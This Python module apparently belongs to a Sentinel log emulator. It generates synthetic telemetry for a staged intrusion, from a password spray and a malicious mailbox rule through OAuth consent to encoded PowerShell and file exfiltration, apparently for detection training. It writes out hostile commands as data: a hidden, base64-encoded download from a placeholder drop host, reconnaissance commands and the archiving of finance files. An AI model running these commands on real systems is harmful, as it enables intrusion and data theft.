"""What the intruder did, step by step, and the rows each step leaves in the tables."""

from __future__ import annotations

import base64
import json
from datetime import datetime, timedelta
from typing import TYPE_CHECKING, Any

from sentinel_emulator.workspace import Workspace, seeded_guid

from .organisation import NETBIOS, Organisation, Person
from .spray import AGENT, SPRAY_ADDRESS, spray_sign_in

if TYPE_CHECKING:
    from .plot import Rows

DROP_ADDRESS = "203.0.113.200"
APPLICATION = "Mail Archive Assistant"

_LOCKED_OUT = {"leo.larch", "ines.ivy", "hugo.heather"}
TRIES = 6
_TRANSFERS = 24
_DOWNLOADS = 120
# What the encoded command says is harmless: it names an address reserved for documentation.
_SCRIPT = f"Invoke-WebRequest -Uri https://{DROP_ADDRESS}/update -OutFile $env:TEMP\\update.bin"


class Intruder:
    """Keeps the cast and the clock; its `rows` are complete once it is made."""

    def __init__(self, workspace: Workspace, organisation: Organisation, seed: int, now: datetime) -> None:
        self.workspace = workspace
        self.organisation = organisation
        self.seed = seed
        self.victim = organisation.person("dana.willow")
        self.analyst = organisation.person("faye.fern")
        minute = now.replace(second=0, microsecond=0)
        self.spray_start = minute - timedelta(hours=22)
        self.sign_in = self.spray_start + timedelta(minutes=52)
        self.rule = self.spray_start + timedelta(minutes=70)
        self.consent = self.spray_start + timedelta(minutes=95)
        self.powershell = minute - timedelta(hours=6)
        self.transfer_start = minute - timedelta(hours=5)
        self.bytes_out = 0
        self.rows: Rows = {}
        self.counter = 0
        self.spray()
        self.new_country()
        self.mailbox_rule()
        self.oauth_consent()
        self.encoded_powershell()
        self.exfiltration()
        self.add("ThreatIntelIndicators", self.indicator())

    def guid(self, *parts: object) -> str:
        """Return a GUID that belongs to this intrusion."""
        return seeded_guid(self.seed, "intrusion", *parts)

    def add(self, table: str, row: dict[str, Any]) -> None:
        """Leave a row in a table."""
        self.rows.setdefault(table, []).append(row)

    def spray(self) -> None:
        """Try a few passwords on everybody, from one address."""
        moment = self.spray_start
        for attempt in range(TRIES):
            for person in self.organisation.people:
                locked = person.account in _LOCKED_OUT and attempt >= TRIES // 2
                self.sign_in_row(person, moment, "50053" if locked else "50126", "Office 365 Exchange Online")
                moment += timedelta(seconds=12)

    def new_country(self) -> None:
        """Sign in with the password that was right."""
        for minutes, app in ((0, "Office 365 Exchange Online"), (4, "OfficeHome"), (18, "Office 365 Exchange Online")):
            self.sign_in_row(self.victim, self.sign_in + timedelta(minutes=minutes), "0", app)

    def sign_in_row(self, person: Person, moment: datetime, result: str, app: str) -> None:
        """Leave one row in SigninLogs."""
        self.counter += 1
        ids = {name: self.guid(name, self.counter) for name in ("correlation", "sign-in", "token")}
        self.add("SigninLogs", spray_sign_in(self.workspace, person, moment, result, app, ids))

    def mailbox_rule(self) -> None:
        """Hide what the owner of the mailbox should not see."""
        parameters = [
            {"Name": "Name", "Value": "."},
            {"Name": "SubjectOrBodyContainsWords", "Value": "invoice;payment;bank"},
            {"Name": "MoveToFolder", "Value": "RSS Feeds"},
            {"Name": "MarkAsRead", "Value": "True"},
            {"Name": "StopProcessingRules", "Value": "True"},
        ]
        self.add(
            "OfficeActivity",
            {
                **self.office(self.rule, "New-InboxRule", "Exchange", "ExchangeAdmin"),
                "ResultStatus": "True",
                "Parameters": json.dumps(parameters),
                "OfficeObjectId": f"{self.victim.upn}\\.",
                "ClientIP": f"{SPRAY_ADDRESS}:51422",
                "MailboxOwnerUPN": self.victim.upn,
            },
        )

    def oauth_consent(self) -> None:
        """Let an application read the mailbox from now on."""
        permissions = "Mail.Read Mail.ReadWrite Files.Read.All offline_access"
        names = ("Add service principal", "Add delegated permission grant", "Consent to application")
        for number, operation in enumerate(names):
            moment = self.consent + timedelta(seconds=number)
            properties = [
                {"displayName": "ConsentContext.IsAdminConsent", "oldValue": None, "newValue": '"False"'},
                {
                    "displayName": "ConsentAction.Permissions",
                    "oldValue": None,
                    "newValue": f'"[[Scope: {permissions}]]"',
                },
            ]
            self.add(
                "AuditLogs",
                {
                    "TimeGenerated": moment,
                    "ActivityDateTime": moment,
                    "AADOperationType": "Assign",
                    "AADTenantId": self.workspace.tenant_id,
                    "ActivityDisplayName": operation,
                    "AdditionalDetails": [{"key": "User-Agent", "value": AGENT}],
                    "Category": "ApplicationManagement",
                    "CorrelationId": self.guid("consent"),
                    "DurationMs": 0,
                    "Id": f"Directory_{self.guid('audit', number)}",
                    "Identity": self.victim.display_name,
                    "InitiatedBy": {
                        "user": {
                            "id": self.victim.object_id,
                            "displayName": self.victim.display_name,
                            "userPrincipalName": self.victim.upn,
                            "ipAddress": SPRAY_ADDRESS,
                            "roles": [],
                        }
                    },
                    "Level": "4",
                    "LoggedByService": "Core Directory",
                    "OperationName": operation,
                    "OperationVersion": "1.0",
                    "Resource": "Microsoft.aadiam",
                    "ResourceGroup": "Microsoft.aadiam",
                    "Result": "success",
                    "ResultSignature": "None",
                    "SourceSystem": "Azure AD",
                    "TargetResources": [
                        {
                            "id": self.guid("service principal"),
                            "displayName": APPLICATION,
                            "type": "ServicePrincipal",
                            "modifiedProperties": properties if operation.startswith("Consent") else [],
                            "administrativeUnits": [],
                        }
                    ],
                },
            )

    @property
    def command_line(self) -> str:
        """The command line of the encoded PowerShell."""
        encoded = base64.b64encode(_SCRIPT.encode("utf-16-le")).decode()
        return f"powershell.exe -NoProfile -WindowStyle Hidden -EncodedCommand {encoded}"

    def encoded_powershell(self) -> None:
        """Run code on the laptop and look around."""
        lines = (
            (0, "powershell.exe", "winword.exe", self.command_line),
            (40, "whoami.exe", "powershell.exe", "whoami.exe /all"),
            (65, "net.exe", "powershell.exe", 'net.exe group "Domain Admins" /domain'),
            (
                900,
                "7z.exe",
                "powershell.exe",
                "7z.exe a -pSummer C:\\Users\\Public\\f.7z C:\\Users\\dana.willow\\Finance",
            ),
        )
        for number, (seconds, name, parent, line) in enumerate(lines):
            moment = self.powershell + timedelta(seconds=seconds)
            self.add(
                "DeviceProcessEvents",
                {
                    "TimeGenerated": moment,
                    "Timestamp": moment,
                    "AccountDomain": NETBIOS.lower(),
                    "AccountName": self.victim.account,
                    "AccountObjectId": self.victim.object_id,
                    "AccountSid": self.victim.sid,
                    "AccountUpn": self.victim.upn,
                    "ActionType": "ProcessCreated",
                    "AdditionalFields": {},
                    "DeviceId": self.victim.device_id,
                    "DeviceName": self.victim.device,
                    "FileName": name,
                    "FolderPath": f"C:\\Windows\\System32\\{name}",
                    "InitiatingProcessAccountName": self.victim.account,
                    "InitiatingProcessAccountUpn": self.victim.upn,
                    "InitiatingProcessCommandLine": parent,
                    "InitiatingProcessFileName": parent,
                    "InitiatingProcessId": 7310 if number == 0 else 7344,
                    "InitiatingProcessIntegrityLevel": "Medium",
                    "ProcessCommandLine": line,
                    "ProcessCreationTime": moment,
                    "ProcessId": 7344 + 8 * number,
                    "ProcessIntegrityLevel": "Medium",
                    "ReportId": 900_000 + number,
                },
            )
        self.add(
            "SecurityEvent",
            {
                "TimeGenerated": self.powershell,
                "Account": f"{NETBIOS}\\{self.victim.account}",
                "AccountName": self.victim.account,
                "AccountDomain": NETBIOS,
                "AccountType": "User",
                "Activity": "4688 - A new process has been created.",
                "Channel": "Security",
                "CommandLine": self.command_line,
                "Computer": self.victim.device,
                "EventID": 4688,
                "EventSourceName": "Microsoft-Windows-Security-Auditing",
                "Level": "8",
                "NewProcessName": "C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe",
                "ParentProcessName": "C:\\Program Files\\Microsoft Office\\root\\Office16\\WINWORD.EXE",
                "Process": "powershell.exe",
                "SourceSystem": "OpsManager",
                "SubjectAccount": f"{NETBIOS}\\{self.victim.account}",
                "SubjectUserName": self.victim.account,
            },
        )

    def exfiltration(self) -> None:
        """Take the files out."""
        for number in range(_DOWNLOADS):
            moment = self.transfer_start + timedelta(seconds=15 * number)
            name = f"Quarter {1 + number % 4} Payments {number + 1}.xlsx"
            site = "https://contoso.sharepoint.com/sites/Finance/"
            self.add(
                "OfficeActivity",
                {
                    **self.office(moment, "FileDownloaded", "SharePoint", "SharePointFileOperation"),
                    "ClientIP": SPRAY_ADDRESS,
                    "EventSource": "SharePoint",
                    "ItemType": "File",
                    "Site_Url": site,
                    "SourceFileName": name,
                    "SourceFileExtension": "xlsx",
                    "SourceRelativeUrl": "Shared Documents/Finance",
                    "OfficeObjectId": f"{site}Shared Documents/Finance/{name}",
                },
            )
        for number in range(_TRANSFERS):
            moment = self.transfer_start + timedelta(minutes=2.5 * number)
            sent = 76_000_000 + 331_777 * number
            self.bytes_out += sent
            self.add("DeviceNetworkEvents", self.connection(number, moment))
            self.add(
                "CommonSecurityLog",
                {
                    "TimeGenerated": moment,
                    "StartTime": moment - timedelta(seconds=110),
                    "EndTime": moment,
                    "Activity": "TRAFFIC",
                    "ApplicationProtocol": "ssl",
                    "CommunicationDirection": "Outbound",
                    "Computer": "fw01.contoso.com",
                    "DeviceName": "fw01.contoso.com",
                    "DestinationIP": DROP_ADDRESS,
                    "DestinationPort": 443,
                    "DeviceAction": "allow",
                    "DeviceEventClassID": "end",
                    "DeviceProduct": "PAN-OS",
                    "DeviceVendor": "Palo Alto Networks",
                    "DeviceVersion": "11.1.0",
                    "EventCount": 1,
                    "LogSeverity": "1",
                    "Protocol": "tcp",
                    "ReceivedBytes": 21_000 + number,
                    "SentBytes": sent,
                    "RequestURL": f"https://{DROP_ADDRESS}/",
                    "SimplifiedDeviceAction": "Allow",
                    "SourceHostName": self.victim.device.partition(".")[0].upper(),
                    "SourceIP": self.victim.device_address,
                    "SourcePort": 52_000 + number,
                    "SourceSystem": "OpsManager",
                    "SourceUserName": f"{NETBIOS}\\{self.victim.account}",
                },
            )

    def connection(self, number: int, moment: datetime) -> dict[str, Any]:
        """Return one upload as the laptop itself saw it."""
        start = moment - timedelta(seconds=110)
        return {
            "TimeGenerated": start,
            "Timestamp": start,
            "ActionType": "ConnectionSuccess",
            "DeviceId": self.victim.device_id,
            "DeviceName": self.victim.device,
            "InitiatingProcessAccountName": self.victim.account,
            "InitiatingProcessAccountUpn": self.victim.upn,
            "InitiatingProcessCommandLine": self.command_line,
            "InitiatingProcessFileName": "powershell.exe",
            "InitiatingProcessId": 7344,
            "LocalIP": self.victim.device_address,
            "LocalIPType": "Private",
            "LocalPort": 52_000 + number,
            "Protocol": "Tcp",
            "RemoteIP": DROP_ADDRESS,
            "RemoteIPType": "Public",
            "RemotePort": 443,
            "ReportId": 910_000 + number,
        }

    def office(self, moment: datetime, operation: str, workload: str, record: str) -> dict[str, Any]:
        """Return what every row of OfficeActivity has."""
        self.counter += 1
        return {
            "TimeGenerated": moment,
            "Start_Time": moment,
            "Operation": operation,
            "OfficeWorkload": workload,
            "RecordType": record,
            "SourceRecordId": self.guid("office", self.counter),
            "OfficeId": self.guid("office", self.counter),
            "OrganizationId": self.workspace.tenant_id,
            "OfficeTenantId": self.workspace.tenant_id,
            "UserId": self.victim.upn,
            "UserKey": self.victim.object_id,
            "UserType": "Regular",
            "UserAgent": AGENT,
            "SourceSystem": "OfficeActivityManager",
        }

    def indicator(self) -> dict[str, Any]:
        """Return the indicator that names the address the files went to."""
        moment = self.spray_start - timedelta(days=3)
        pattern = f"[ipv4-addr:value = '{DROP_ADDRESS}']"
        name = f"indicator--{self.guid('indicator')}"
        return {
            "TimeGenerated": moment,
            "Id": name,
            "Confidence": 90,
            "Created": moment,
            "Modified": moment,
            "ValidFrom": moment,
            "ValidUntil": moment + timedelta(days=90),
            "IsActive": True,
            "IsDeleted": False,
            "Revoked": False,
            "ObservableKey": "ipv4-addr:value",
            "ObservableValue": DROP_ADDRESS,
            "Pattern": pattern,
            "Source": "Contoso Threat Feed",
            "LastUpdateMethod": "feed",
            "WorkspaceId": self.workspace.workspace_id,
            "AzureTenantId": self.workspace.tenant_id,
            "Data": {
                "type": "indicator",
                "spec_version": "2.1",
                "id": name,
                "pattern_type": "stix",
                "pattern": pattern,
                "labels": ["malicious-activity"],
            },
            "AdditionalFields": {"TLPLevel": "Amber"},
            "SourceSystem": "Microsoft Sentinel",
        }
